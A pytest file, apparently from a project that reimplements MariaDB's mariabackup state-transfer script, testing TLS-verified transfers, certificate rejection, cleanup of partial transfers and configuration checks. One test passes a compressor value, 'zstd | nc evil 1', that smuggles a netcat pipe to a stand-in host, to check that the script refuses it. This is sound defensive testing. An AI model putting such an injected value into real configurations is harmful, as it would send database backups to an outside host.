"""mariabackup scripts without mariadbd: stage 1 and its acknowledgement, refusals."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from sst import net, resume
from sst.config import MYSQLD, Options, mariabackup_settings
from sst.errors import ConfigError
from sst.methods import mariabackup as mbm
from sst.methods.common import Run
from sst.process.runner import Stage, Supervisor
from sst.protocol import Stdout
from sst.request import parse_request
from sst.tools import rsync as rs
from testsupport import lab
from testsupport.process import (
    UUID,
    Script,
    donor_args,
    error_lines,
    free_port,
    joiner_args,
    start_script,
    write_cnf,
)


def setup_pair(
    tmp: Path, joiner_sst: dict[str, str], donor_sst: dict[str, str]
) -> tuple[Path, Path]:
    j, d = tmp / "j", tmp / "d"
    for base, sst in ((j, joiner_sst), (d, donor_sst)):
        (base / "data").mkdir(parents=True)
        write_cnf(base, sst)
    return j, d


def other_ca(directory: Path, name: str) -> lab.CertPaths:
    """A certificate for name on 127.0.0.1 from a CA of its own (another CN than the lab's,
    so that OpenSSL reports an unknown issuer, not a bad signature)."""
    directory.mkdir()
    ca = lab.make_ca("another CA")
    cert, key = lab.make_leaf(ca, name, ips=["127.0.0.1"], dns=[name])
    paths = {"ca": directory / "ca.pem", "cert": directory / "c.pem", "key": directory / "k.pem"}
    paths["ca"].write_bytes(lab.pem_cert(ca[0]))
    paths["cert"].write_bytes(lab.pem_cert(cert))
    paths["key"].write_bytes(lab.pem_key(key))
    return lab.CertPaths(str(paths["ca"]), {name: (str(paths["cert"]), str(paths["key"]))})


def start_ist(j: Path, d: Path, parent_pid: int, port: int) -> tuple[Script, Script, str]:
    """Our joiner (j) on port, then our donor (d) of an IST to the address it announced;
    both scripts and that address."""
    js = start_script("py_mariabackup", joiner_args(j, port, parent_pid))
    auth, _, address = js.readline()[6:].rpartition("@")
    ds = start_script(
        "py_mariabackup",
        donor_args(d, address, bypass=True),
        env={"WSREP_SST_OPT_REMOTE_AUTH": auth},
    )
    return js, ds, address


def ist(j: Path, d: Path, parent_pid: int, port: int) -> tuple[str, str]:
    """An IST from our donor (d) to our joiner (j) on port, both succeeding; the joiner's
    address and its log."""
    js, ds, address = start_ist(j, d, parent_pid, port)
    assert ds.readline() == "continue"
    assert ds.readline() == f"done {UUID}:5"
    assert ds.wait() == 0
    assert js.readline() == f"{UUID}:5 0"
    assert js.wait() == 0
    err = js.stderr()
    assert "IST requested by the donor" in err
    assert not net.port_in_use(port, "127.0.0.1")
    return address, err


def test_ist_over_tls_with_acknowledgement(tmp_path: Path, parent: subprocess.Popen[bytes]) -> None:
    c = lab.make_certs(str(tmp_path / "certs"), {"j": "127.0.0.1", "d": "127.0.0.1"}, owner="root")
    opts = {
        n: {
            "ssl-mode": "VERIFY_IDENTITY",
            "ssl-ca": c.ca,
            "ssl-cert": c.certs[n][0],
            "ssl-key": c.certs[n][1],
        }
        for n in ("j", "d")
    }
    j, d = setup_pair(tmp_path, opts["j"], opts["d"])
    port = free_port()
    address, _ = ist(j, d, parent.pid, port)
    assert address == f"127.0.0.1:{port}/xtrabackup_sst/galera-sst-gate/1"


def test_ist_removes_a_kept_partial_transfer(
    tmp_path: Path, parent: subprocess.Popen[bytes]
) -> None:
    """A partial rsync transfer kept by an earlier failed SST (.sst-kept) is of an older
    state once a mariabackup SST or IST succeeded: the skeleton's successful end removes it
    (one INFO line), or a server started on the datadir lists it as `#mysql50#.sst-kept`."""
    j, d = setup_pair(tmp_path, {}, {})
    dd = j / "data"
    staged = dd / ".sst-staging"
    staged.mkdir()
    (staged / rs.ORIGIN_FILE).write_text(f"{UUID}:3\n")
    (staged / "t1.ibd").write_bytes(b"x" * 4096)
    assert resume.keep(str(dd), str(staged), 3600.0)
    kept = resume.path(str(dd))
    assert os.path.isdir(kept)
    _, err = ist(j, d, parent.pid, free_port())
    assert f"Removing the kept partial transfer {kept}: the SST succeeded" in err, err
    assert not os.path.lexists(kept)
    assert not [n for n in os.listdir(dd) if n.startswith(".sst")], os.listdir(dd)


def test_rejected_donor_never_prints_done(tmp_path: Path, parent: subprocess.Popen[bytes]) -> None:
    """The joiner refuses a donor certificate from another CA; socat on the donor may exit
    0, but without the joiner's acknowledgement the donor fails and prints no `done`."""
    c = lab.make_certs(str(tmp_path / "certs"), {"j": "127.0.0.1"}, owner="root")
    other = other_ca(tmp_path / "other", "d")
    j, d = setup_pair(
        tmp_path,
        {
            "ssl-mode": "VERIFY_CA",
            "ssl-ca": c.ca,
            "ssl-cert": c.certs["j"][0],
            "ssl-key": c.certs["j"][1],
            "sst-initial-timeout": "4",  # it keeps waiting for a donor that gets through
        },
        # The donor trusts the joiner's CA, but its own certificate is from another CA.
        {
            "ssl-mode": "VERIFY_CA",
            "ssl-ca": c.ca,
            "ssl-cert": other.certs["d"][0],
            "ssl-key": other.certs["d"][1],
            "ssl-client-ca": c.ca,
        },
    )
    # The donor's own pre-flight checks its cert against its CA: give it a bundle of both.
    bundle = tmp_path / "both-ca.pem"
    bundle.write_bytes(Path(c.ca).read_bytes() + Path(other.ca).read_bytes())
    write_cnf(
        d,
        {
            "ssl-mode": "VERIFY_CA",
            "ssl-ca": str(bundle),
            "ssl-cert": other.certs["d"][0],
            "ssl-key": other.certs["d"][1],
        },
    )
    port = free_port()
    js, ds, _ = start_ist(j, d, parent.pid, port)
    assert ds.readline() == "continue"
    assert ds.readline() == ""  # no `done`
    assert ds.wait() == 32
    # Both ends say why, in one ERROR line each: the joiner could not verify the donor's
    # certificate (unknown CA), and the donor saw the joiner's alert. The joiner refuses
    # that connection and keeps waiting for a donor that gets through, until its deadline.
    errors = error_lines(ds.stderr())
    print(errors)
    assert len(errors) == 1 and "(stage 1)" in errors[0]
    # Under TLS 1.3 the joiner's alert can be lost to the reset of the donor's next write
    # (a race): the donor then says so, and the joiner's line below names the reason.
    assert re.search(
        r"the TLS connection to the joiner failed: (unknown CA|the peer reset the connection)",
        errors[0],
    ), errors[0]
    assert js.wait(30) == 32
    jerrors = error_lines(js.stderr())
    print(jerrors)
    assert len(jerrors) == 1
    assert (
        "no connection proved this joiner's secret within 4 s; the last one was refused: the "
        "TLS handshake failed: the peer's certificate did not verify (unknown CA, expired or "
        "not yet valid): certificate verify failed"
    ) in jerrors[0]
    assert not net.port_in_use(port, "127.0.0.1")


def settings_error(sst: dict[str, str | None], role: str = "joiner") -> str:
    req = parse_request(
        "wsrep_sst_py_mariabackup", ["--role", role, "--datadir", "/d", "--address", "h"], {}
    )
    with pytest.raises(ConfigError) as e:
        mariabackup_settings(req, Options({MYSQLD: {}, "sst": sst}))
    return e.value.message


def test_refusals_instead_of_silent_downgrades() -> None:
    assert "needs a CA" in settings_error(
        {"ssl-mode": "VERIFY_IDENTITY", "ssl-cert": "c", "ssl-key": "k"}
    )
    assert "refusing to fall back to cleartext" in settings_error({"ssl-mode": "REQUIRED"})
    assert "encrypt=1 needs encrypt-algo" in settings_error({"encrypt": "1"})
    assert "encrypt=4 needs a CA" in settings_error({"encrypt": "4", "tcert": "c", "tkey": "k"})
    msg = settings_error({"compressor": "zstd | nc evil 1", "transferfmt": "nc"})
    assert "shell syntax" in msg and "only socat" in msg


def test_plans() -> None:
    req = parse_request(
        "wsrep_sst_py_mariabackup", ["--role", "donor", "--datadir", "/d", "--address", "h"], {}
    )

    def plan(sst: dict[str, str | None]) -> tuple[str, bool, bool]:
        s = mariabackup_settings(req, Options({MYSQLD: {}, "sst": sst}))
        return s.plan.label, s.plan.verify, s.plan.check_name

    assert plan({}) == ("plain", False, False)
    assert plan({"ssl-mode": "REQUIRED", "ssl-cert": "c", "ssl-key": "k", "ssl-ca": "a"}) == (
        "TLS REQUIRED (encrypt=3)",
        False,
        False,
    )
    assert plan({"ssl-mode": "VERIFY_CA", "ssl-cert": "c", "ssl-key": "k", "ssl-ca": "a"}) == (
        "TLS VERIFY_CA (encrypt=3)",
        True,
        False,
    )
    assert plan({"encrypt": "4", "tcert": "c", "tkey": "k", "tca": "a"}) == (
        "TLS (encrypt=4)",
        True,
        False,
    )
    assert plan({"encrypt": "3", "tcert": "c", "tkey": "k", "tca": "a"})[1:] == (True, True)
    s = mariabackup_settings(
        req,
        Options({MYSQLD: {}, "sst": {"compressor": "zstd -1 -T2", "cpat": r".*/\(foo\|bar\)$"}}),
    )
    assert s.compressor == ("zstd", "-1", "-T2")
    assert s.cpat == ".*/(foo|bar)$"


def test_progress_lines_reach_mariadbd(tmp_path: Path) -> None:
    """--progress 1: pv's byte counts become `complete N` lines on stdout."""
    req = parse_request(
        "wsrep_sst_py_mariabackup",
        ["--role", "joiner", "--datadir", str(tmp_path), "--progress", "1", "--address", "h"],
        {},
    )
    s = mariabackup_settings(req, Options({MYSQLD: {}, "sst": {}}))
    r, w = os.pipe()
    with Supervisor() as sup:
        run = Run(req, sup, Stdout(w), str(tmp_path))
        stages = mbm._progress_stages(run, s, "joiner")
        assert [st.argv[1:] for st in stages] == [("-f", "-i", "1", "-n", "-b")]
        sink = open(tmp_path / "out", "wb")  # noqa: SIM115
        kids = sup.pipeline([Stage(("head", "-c", "300000", "/dev/zero")), *stages], stdout=sink)
        sup.wait(kids, what="progress")
        sink.close()
    os.close(w)
    lines = os.read(r, 65536).decode().splitlines()
    os.close(r)
    assert lines and lines[-1] == "complete 300000"
    assert all(ln.startswith("complete ") for ln in lines)
